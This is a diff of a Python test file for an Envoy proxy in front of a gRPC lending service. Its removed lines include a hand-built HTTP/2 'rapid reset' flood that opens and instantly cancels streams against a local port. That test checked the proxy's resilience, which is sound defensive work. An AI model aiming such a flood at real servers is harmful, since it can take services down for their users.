@@ -1,12 +1,9 @@
 """Envoy keeps out what is not for it, never repeats what may have been done, and works around a process that is ill."""
 
-import socket
-import struct
 import subprocess
-import threading
 import time
 from concurrent.futures import ThreadPoolExecutor
-from contextlib import ExitStack, contextmanager, suppress
+from contextlib import ExitStack, contextmanager
 
 import grpc
 import pytest
@@ -36,12 +33,8 @@ class Lending(lending_service_pb2_grpc.LendingServiceServicer):
         self.arrived.append(("GetLoan", dict(context.invocation_metadata())))
         if request.loan_id == "gone":
             context.abort(grpc.StatusCode.UNAVAILABLE, "the store is gone")
-        time.sleep(0.1 if request.loan_id == "slow" else 0.005)
+        time.sleep(0.1 if request.loan_id == "slow" else 0)
         return lending_service_pb2.GetLoanResponse(loan=lending_pb2.Loan(loan_id=request.loan_id))
-
-    def Apply(self, request, context):  # noqa: N802  the contract's name
-        time.sleep(0.005)
-        return lending_service_pb2.ApplyResponse()
 
     def Disburse(self, request, context):  # noqa: N802  the contract's name
         self.arrived.append(("Disburse", dict(context.invocation_metadata())))
@@ -138,53 +131,6 @@ def test_health_is_told_through_the_edge(behind):
     check = health_pb2.HealthCheckRequest(service="fanxing.v1.LendingService")
     answer = health_pb2_grpc.HealthStub(channel).Check(check, timeout=5)
     assert answer.status == health_pb2.HealthCheckResponse.SERVING
-
-
-HEADERS = {
-    ":method": "POST",
-    ":scheme": "http",
-    ":path": "/fanxing.v1.LendingService/GetLoan",
-    ":authority": "edge",
-    "content-type": "application/grpc",
-}
-
-
-def frame(kind, flags, stream, body=b""):
-    return struct.pack(">I", len(body))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + body
-
-
-def opened_and_reset(streams):
-    """HTTP/2 frames (RFC 9113): each stream sends a whole call and takes it back at once."""
-    block = b"".join(
-        b"\0" + bytes((len(name),)) + name.encode() + bytes((len(value),)) + value.encode()
-        for name, value in HEADERS.items()
-    )
-    for stream in streams:
-        yield frame(1, 4, stream, block) + frame(0, 1, stream, bytes(5)) + frame(3, 0, stream, struct.pack(">I", 8))
-
-
-def reset_until(stopped, port):
-    while not stopped.is_set():
-        with suppress(OSError), socket.create_connection(("127.0.0.1", port), 1) as connection:
-            connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0))
-            for first in range(1, 1_000_000, 100):
-                connection.sendall(b"".join(opened_and_reset(range(first, first + 100, 2))))
-                if stopped.is_set():
-                    break
-
-
-def test_a_caller_who_opens_and_resets_streams_costs_nobody_else_a_call(behind):
-    _, channel, running, _ = behind
-    stopped = threading.Event()
-    attacker = threading.Thread(target=reset_until, args=(stopped, int(running.target.rpartition(":")[2])))
-    attacker.start()
-    stub = lending_service_pb2_grpc.LendingServiceStub(channel)
-    try:
-        for _ in range(150):
-            stub.Apply(lending_service_pb2.ApplyRequest(), timeout=20)
-    finally:
-        stopped.set()
-        attacker.join()
 
 
 def test_calls_go_on_when_a_process_dies(behind):
